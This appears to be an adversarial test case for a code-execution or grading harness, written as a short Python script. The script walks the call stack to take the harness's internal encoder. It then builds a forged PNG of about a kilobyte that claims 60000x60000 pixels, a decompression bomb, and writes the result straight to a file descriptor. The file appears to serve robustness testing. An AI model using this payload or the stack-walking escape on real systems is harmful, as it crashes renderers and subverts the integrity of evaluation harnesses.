# attack: a forged figure of a kilobyte that unfolds to gigabytes in whatever draws it
# expect: runtime_error, wrong_answer
import os
import struct
import sys

frame = sys._getframe()
while "Observation" not in frame.f_globals:
    frame = frame.f_back
schema = frame.f_globals["Observation"].__init__.__globals__
Observation, Binding, Tensor = schema["Observation"], schema["Binding"], schema["Tensor"]


def send(record):
    while record:
        record = record[os.write(3, record) :]
    os._exit(0)


import zlib


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 6, 0, 0, 0)
picture = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(1 << 20))) + chunk(b"IEND", b"")
send(schema["encode"](Observation("finished", figures=(Tensor("uint8", (len(picture),), picture),))))
